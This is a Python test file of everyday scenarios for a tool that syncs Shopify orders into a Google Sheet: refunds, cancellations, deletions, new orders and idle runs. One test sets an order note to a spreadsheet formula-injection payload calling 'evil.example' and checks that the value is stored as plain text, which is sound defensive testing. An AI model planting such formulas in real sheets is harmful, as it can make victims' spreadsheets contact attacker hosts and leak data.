"""What happens on ordinary days, as the owner of a shop would tell it."""

from collections.abc import Callable
from typing import Any

from tests.scenarios.world import World


def first_order(world: World) -> tuple[str, dict[str, Any]]:
    """An order with at least one line, not cancelled."""
    return next((gid, order) for gid, order in world.shop.orders.items() if order["lineItems"] and not order["cancelledAt"])


def test_the_first_run_adds_every_line_once_and_the_second_does_nothing(make: Callable[..., World]) -> None:
    world = make(orders=60)
    first = world.synced()
    without_lines = sum(not order["lineItems"] for order in world.shop.orders.values())
    assert set(world.lines()) <= set(world.rows())
    assert len(world.rows()) == len(world.lines()) + without_lines == first.counts["rows_added"]
    second = world.synced()
    assert (second.writes, second.counts["cells_changed"], second.counts["rows_added"]) == (0, 0, 0)


def test_an_hour_without_news_costs_next_to_nothing(world: World) -> None:
    world.pass_time(hours=2)
    world.synced()
    idle = world.synced()
    assert idle.counts["fetched"] == 0
    assert idle.shop_requests <= 2 and idle.google_requests <= 3 and idle.writes == 0


def test_an_empty_shop_gives_a_sheet_with_headers_only(make: Callable[..., World]) -> None:
    world = make(orders=0)
    world.synced()
    assert world.header()[0] == "Line ID" and world.rows() == {}
    assert world.synced().writes == 0


def test_a_changed_note_changes_one_cell_per_line(world: World) -> None:
    gid, order = first_order(world)
    world.shop.set_note(gid, '=IMPORTXML("http://evil.example", "//a")')
    before = world.rows()
    ran = world.synced()
    after = world.rows()
    assert ran.counts["cells_changed"] == len(order["lineItems"]) and ran.writes == 1
    for key, row in after.items():
        changed = {name for name in row if row[name] != before[key][name]}
        mine = any(line["id"].endswith(f"/{key}") for line in order["lineItems"])
        assert changed == ({"Note"} if mine else set())
    key = order["lineItems"][0]["id"].rpartition("/")[2]
    assert after[key]["Note"].startswith("=IMPORTXML"), "kept as the text it is"


def test_a_refund_shows_in_quantity_and_money(world: World) -> None:
    gid, order = next(
        (gid, order)
        for gid, order in world.shop.orders.items()
        if not order["refunds"]
        and not order["cancelledAt"]
        and order["displayFinancialStatus"] == "PAID"
        and order["lineItems"]
        and order["lineItems"][0]["currentQuantity"] > 0
    )
    line = order["lineItems"][0]
    world.shop.refund(gid, {line["id"]: 1})
    world.synced()
    row = world.rows()[line["id"].rpartition("/")[2]]
    assert row["Refunded quantity"] == 1
    assert row["Refunded"] == float(world.shop.orders[gid]["totalRefundedSet"]["shopMoney"]["amount"])


def test_a_new_order_is_appended_below(world: World) -> None:
    import random

    from syncdb.sandbox.shopify.generate import new_order

    before = list(world.rows())
    order = new_order(world.shop, random.Random(1), world.sandbox.now(), 1)
    ran = world.synced()
    after = list(world.rows())
    assert after[: len(before)] == before
    assert set(after[len(before) :]) == {line["id"].rpartition("/")[2] for line in order["lineItems"]}
    assert ran.counts["rows_added"] == len(order["lineItems"]) and ran.counts["cells_changed"] == 0


def test_a_cancelled_order_keeps_its_rows(world: World) -> None:
    gid, order = first_order(world)
    world.shop.cancel(gid)
    count = len(world.rows())
    world.synced()
    assert len(world.rows()) == count
    key = order["lineItems"][0]["id"].rpartition("/")[2]
    assert world.rows()[key]["Order status"] == "cancelled"


def test_a_deleted_order_keeps_its_rows_and_says_so_after_two_looks(world: World) -> None:
    world.pass_time(hours=1)
    gid, order = first_order(world)
    key = order["lineItems"][0]["id"].rpartition("/")[2]
    world.shop.delete(gid)
    world.synced(full=True)
    assert world.rows()[key]["Order status"] != "deleted", "one look is not enough"
    ran = world.synced(full=True)
    assert world.rows()[key]["Order status"] == "deleted" and ran.counts["orders_deleted"] == 1
    assert world.synced(full=True).writes == 0


def test_one_row_per_order_if_wanted(make: Callable[..., World]) -> None:
    world = make(orders=20, env={"SHEET_ROWS": "order"})
    world.synced()
    at = next(row for row in world.grid() if "Order ID" in row).index("Order ID")
    ids = [row[at] for row in world.grid()[1:] if len(row) > at and row[at]]
    assert sorted(ids) == sorted(gid.rpartition("/")[2] for gid in world.shop.orders)
    assert world.synced().writes == 0


def test_traces_of_old_writes_are_tidied_away(world: World) -> None:
    gid, _ = first_order(world)
    for number in range(30):
        world.shop.set_note(gid, f"note {number}")
        world.synced()
    assert 1 < len(world.sandbox.spreadsheet.metadata.entries) < 25
